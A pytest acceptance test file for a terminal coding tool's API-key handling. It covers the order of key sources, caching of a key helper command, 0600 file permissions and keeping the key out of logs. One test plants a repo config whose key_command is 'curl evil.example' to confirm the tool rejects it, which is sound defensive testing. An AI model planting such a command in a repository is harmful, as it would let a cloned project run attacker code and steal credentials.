"""Acceptance 3: the key's sources, in the documented order, and the key never written out.

Environment, then `[auth] key_command`, then the keyring, then the 0600 file. Each test
makes real requests to the fake API and reads the key the SDK sent with each.
"""

from __future__ import annotations

import os
import stat
import sys
from pathlib import Path
from typing import Any

import pytest

from haikutui.core import keys
from haikutui.core.config import load_settings
from haikutui.model.client import has_key
from tests.fake_api import FakeAnthropic, str_replace, tool_reply

FIX = str_replace("core.py", "range(len(values) + 1)", "range(len(values))")
FROM_COMMAND = "sk-ant-from-the-key-command-0001"
FROM_KEYRING = "sk-ant-from-the-keyring-0002"
FROM_FILE = "sk-ant-from-the-private-file-0003"
FROM_ENV = "sk-ant-from-the-environment-0004"


@pytest.fixture
def api(fake_api: FakeAnthropic, monkeypatch: pytest.MonkeyPatch) -> FakeAnthropic:
    """The fake API, with no key in the environment: each test decides where it comes from."""
    monkeypatch.delenv("ANTHROPIC_API_KEY")
    return fake_api


def key_command(tmp_path: Path, key: str = FROM_COMMAND, *, code: int = 0) -> tuple[str, Path]:
    """A helper like Claude Code's apiKeyHelper; it counts its runs in a file."""
    runs = tmp_path / "runs"
    script = tmp_path / "key_helper.py"
    script.write_text(
        "import pathlib, sys\n"
        f"p = pathlib.Path({str(runs)!r}); p.write_text(p.read_text() + 'x' if p.exists() else 'x')\n"
        f"print({key!r}); sys.exit({code})\n"
    )
    return f"{sys.executable} {script}", runs


def write_config(text: str) -> None:
    Path(os.environ["HAIKUTUI_CONFIG"]).write_text(text)


def sent_keys(fake: FakeAnthropic) -> list[str | None]:
    """The key each request carried (this SDK sends an API key as a bearer token)."""
    return [
        r.headers.get("x-api-key") or r.headers.get("authorization", "").removeprefix("Bearer ")
        for r in fake.message_requests
    ]


def everything_written(state: Path, repo: Path, *outputs: str) -> str:
    """The request log, every file in the state dir but the key file, and the CLI output."""
    texts = list(outputs)
    for path in [*state.rglob("*"), *(repo / ".git").rglob("haikutui/**/*")]:
        if path.is_file() and path.name != keys.KEY_FILE:
            texts.append(path.read_text(errors="replace"))
    return "\n".join(texts)


def test_the_key_command_is_run_when_needed_and_cached(
    api: FakeAnthropic, repo_dir: Path, haikutui: Any, tmp_path: Path
) -> None:
    command, runs = key_command(tmp_path)
    write_config(f'[auth]\nkey_command = "{command}"\nkey_ttl = 600\n')
    api.script(tool_reply(FIX), tool_reply(FIX))
    assert not runs.exists()  # loading settings runs nothing

    first = haikutui(repo_dir, "fix", "core.py:5", "-m", "fix it")
    second = haikutui(repo_dir, "fix", "core.py:5", "-m", "fix it")

    assert first.code == 0 and second.code == 0, first.err + second.err
    assert sent_keys(api) == [FROM_COMMAND, FROM_COMMAND]
    assert runs.read_text() == "x"  # cached for key_ttl: run once for two requests
    state = Path(os.environ["HAIKUTUI_STATE_DIR"])
    assert FROM_COMMAND not in everything_written(state, repo_dir, first.out, first.err)


def test_a_zero_ttl_runs_the_command_each_time(
    api: FakeAnthropic, repo_dir: Path, haikutui: Any, tmp_path: Path
) -> None:
    command, runs = key_command(tmp_path)
    write_config(f'[auth]\nkey_command = "{command}"\nkey_ttl = 0\n')
    api.script(tool_reply(FIX), tool_reply(FIX))
    haikutui(repo_dir, "fix", "core.py:5", "-m", "fix it")
    haikutui(repo_dir, "fix", "core.py:5", "-m", "fix it")
    assert runs.read_text() == "xx"


def test_a_failing_key_command_is_one_line_without_its_output(
    api: FakeAnthropic, repo_dir: Path, haikutui: Any, tmp_path: Path
) -> None:
    command, _ = key_command(tmp_path, "sk-ant-leaked-by-a-broken-helper", code=1)
    write_config(f'[auth]\nkey_command = "{command}"\n')

    run = haikutui(repo_dir, "fix", "core.py:5", "-m", "fix it")

    assert run.code == 3
    assert run.err.strip() == "haikutui: [auth] key_command exited 1; check it in your config"
    assert api.requests == []


def test_a_repo_config_may_not_choose_the_key_command(repo_dir: Path, haikutui: Any) -> None:
    (repo_dir / ".haikutui.toml").write_text('[auth]\nkey_command = "curl evil.example"\n')
    run = haikutui(repo_dir, "fix", "core.py:5", "-m", "fix it")
    assert run.code == 2
    assert "[auth] belongs in your user config, not the repo's" in run.err


def test_the_keyring_holds_the_key(
    api: FakeAnthropic, repo_dir: Path, haikutui: Any, memory_keyring: Any
) -> None:
    assert keys.store_in_keyring(FROM_KEYRING)
    assert memory_keyring.store == {(keys.SERVICE, keys.ACCOUNT): FROM_KEYRING}
    assert not keys.key_file().exists()  # no secret written anywhere else
    assert keys.keyring_mark().read_bytes() == b""  # only the mark that one is stored
    api.script(tool_reply(FIX))

    run = haikutui(repo_dir, "fix", "core.py:5", "-m", "fix it")

    assert run.code == 0, run.err
    assert sent_keys(api) == [FROM_KEYRING]
    assert keys.forget_key() == ["the keyring"]
    assert memory_keyring.store == {}
    assert not has_key(load_settings(repo_dir))


def test_start_up_knows_a_key_is_in_the_keyring_without_asking_it(
    repo_dir: Path, memory_keyring: Any
) -> None:
    """The quick check (start-up, typing) skips the keyring's slow first lookup, yet must not
    tell a user whose key is in the keyring that there is none."""
    settings = load_settings(repo_dir)
    assert not has_key(settings, quick=True)
    assert keys.store_in_keyring(FROM_KEYRING)
    memory_keyring.lookups = 0
    assert has_key(settings, quick=True)
    assert memory_keyring.lookups == 0
    assert keys.forget_key() == ["the keyring"]
    assert not has_key(settings, quick=True)


def test_without_a_keyring_the_file_is_0600(
    api: FakeAnthropic, repo_dir: Path, haikutui: Any
) -> None:
    assert not keys.keyring_available()
    assert not keys.store_in_keyring(FROM_FILE)
    path = keys.store_in_file(FROM_FILE)

    assert path == Path(os.environ["HAIKUTUI_STATE_DIR"]) / "api-key"
    assert stat.S_IMODE(path.stat().st_mode) == 0o600
    assert stat.S_IMODE(path.parent.stat().st_mode) & 0o077 == 0  # a new state dir: 0700
    api.script(tool_reply(FIX))
    run = haikutui(repo_dir, "fix", "core.py:5", "-m", "fix it")
    assert run.code == 0, run.err
    assert sent_keys(api) == [FROM_FILE]
    assert keys.forget_key() == [str(path)] and not path.exists()


def test_precedence_environment_command_keyring_file(
    api: FakeAnthropic,
    repo_dir: Path,
    haikutui: Any,
    tmp_path: Path,
    memory_keyring: Any,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    keys.store_in_file(FROM_FILE)
    memory_keyring.store[(keys.SERVICE, keys.ACCOUNT)] = FROM_KEYRING
    command, _ = key_command(tmp_path)
    write_config(f'[auth]\nkey_command = "{command}"\n')
    monkeypatch.setenv("ANTHROPIC_API_KEY", FROM_ENV)
    expected = []
    for step in ("env", "command", "keyring", "file"):
        api.script(tool_reply(FIX))
        run = haikutui(repo_dir, "fix", "core.py:5", "-m", "fix it")
        assert run.code == 0, run.err
        if step == "env":
            expected.append(FROM_ENV)
            monkeypatch.delenv("ANTHROPIC_API_KEY")
        elif step == "command":
            expected.append(FROM_COMMAND)
            write_config("")
        elif step == "keyring":
            expected.append(FROM_KEYRING)
            memory_keyring.store.clear()
        else:
            expected.append(FROM_FILE)
    assert sent_keys(api) == expected


def test_no_key_anywhere_says_where_to_put_one(repo_dir: Path, haikutui: Any) -> None:
    run = haikutui(repo_dir, "fix", "core.py:5", "-m", "fix it")
    assert run.code == 3
    assert "No Anthropic API key" in run.err and "key_command" in run.err


def test_a_found_key_never_shows_in_its_repr() -> None:
    found = keys.FoundKey(FROM_ENV, "environment")
    assert FROM_ENV not in repr(found) and FROM_ENV not in str(found)
